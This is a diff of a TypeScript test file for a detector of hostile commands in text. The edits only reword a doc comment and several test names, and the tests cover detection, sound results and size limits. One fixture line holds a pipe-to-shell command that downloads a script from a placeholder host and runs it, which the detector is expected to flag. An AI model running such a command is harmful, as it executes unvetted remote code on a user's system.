@@ -5,7 +5,7 @@ import { assertSound } from "./invariants.js";
 
 const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
 const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
-/** The length of the texts, which exceeds every limit but the size of one program. test/slow/hostile-sizes.test.ts doubles it. */
+/** The length of the texts. It exceeds every limit except the size of one program. test/slow/hostile-sizes.test.ts doubles it. */
 const SIZE = 10_000;
 /** Families whose texts are twice as long, so that they exceed the size of one program. */
 const LONGER = [
@@ -20,8 +20,8 @@ const sizes = new Map(
   Object.keys(families).map((name) => [name, LONGER.includes(name) ? 2 * SIZE : SIZE]),
 );
 
-describe("hostile families", { timeout: 120_000 }, () => {
-  it.each([...sizes])("%s: a command before them is found", async (name, size) => {
+describe("hostile text with", { timeout: 120_000 }, () => {
+  it.each([...sizes])("%s does not hide a command before it", async (name, size) => {
     const detector = await sharedDetector();
     const text = BEFORE + (families[name]?.(size) ?? "");
     const detection = detector.detect(text);
@@ -29,12 +29,12 @@ describe("hostile families", { timeout: 120_000 }, () => {
     expect(detection.findings[0]?.text).toBe(FLAGGED);
   });
 
-  it.each([...sizes])("%s: read completely when alone", async (name, size) => {
+  it.each([...sizes])("%s has a sound result", async (name, size) => {
     const text = families[name]?.(size) ?? "";
     assertSound(text, (await sharedDetector()).detect(text));
   });
 
-  it.each(LONGER)("%s exceed the size of one program", async (name) => {
+  it.each(LONGER)("%s of twice the length exceeds the size of one program", async (name) => {
     const { outcome } = (await sharedDetector()).detect(families[name]?.(2 * SIZE) ?? "");
     expect(outcome.status === "incomplete" && outcome.limits.map(({ limit }) => limit)).toContain(
       "size",
